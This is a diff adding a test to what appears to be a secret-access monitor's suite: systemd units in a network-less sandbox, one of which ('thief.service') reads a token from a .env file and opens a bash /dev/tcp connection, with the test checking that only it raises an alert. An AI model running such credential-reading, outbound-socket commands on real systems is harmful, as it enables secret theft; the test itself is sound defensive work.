@@ -161,6 +161,34 @@ def boot(s):
     s.require_silence(before)
 
 
+# Units of a box, which has no network: each fails to connect. PID 1 reads the environment of the first.
+UNITS = {
+    "shop.service": "EnvironmentFile=/srv/shop/.env\n"
+                    "ExecStart=-/bin/bash -c '[ $TOKEN = decoy ] && exec 3<>/dev/tcp/{}/443'",
+    "next.service": "ExecStart=-/bin/bash -c 'exec 3<>/dev/tcp/{}/443'",
+    "thief.service": "ExecStart=-/bin/bash -c 'read -r token </srv/shop/.env; exec 3<>/dev/tcp/{}/443'",
+}
+
+
+def environment_of_unit(s):
+    """EnvironmentFile= of a unit: neither it nor what PID 1 starts next raises an alert, a unit that opens it does."""
+    script = "mkdir -p /srv/shop; echo TOKEN=decoy >/srv/shop/.env\n"
+    for name, service in UNITS.items():
+        text = "[Service]\nType=oneshot\n" + service.format(HOST_V4) + "\n"
+        script += f"cat >/run/systemd/system/{name} <<'END'\n{text}END\n"
+    script += "systemctl daemon-reload\nsystemctl start shop next thief"
+    before = len(s.bw.alerts)
+    result = subprocess.run([os.path.join(harness.SOURCE_ROOT, "tests/box/systemd-box"), "sh", "-ec", script],
+                            stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=BOOT_TIMEOUT)
+    if result.returncode == 77:
+        raise Skip(result.stderr.strip(), environment=True)
+    require_equal(result.returncode, 0, f"the box: {result.stdout}{result.stderr}")
+    s.bw.wait_alert(lambda a: a["process"]["unit"] == "thief.service" and a["classes"] == ["app-secrets"],
+                    "the unit that opens it")
+    others = [a for a in s.bw.alerts[before:] if a["process"]["unit"] != "thief.service"]
+    require(not others, f"alerts of other units: {others}")
+
+
 def main():
     t = tap.Tap()
     with tempfile.TemporaryDirectory(prefix="barbwire-site-") as site:
@@ -180,6 +208,7 @@ def main():
             t.case("ana: a browser starts, and its cookies are stolen", browser, s)
             t.case("a backup under a site's rule", backup, s)
             t.case("a system boots", boot, s)
+            t.case("PID 1 reads the environment of a unit", environment_of_unit, s)
             t.case("no loss", stage.no_loss, s.bw)
     t.done()
 
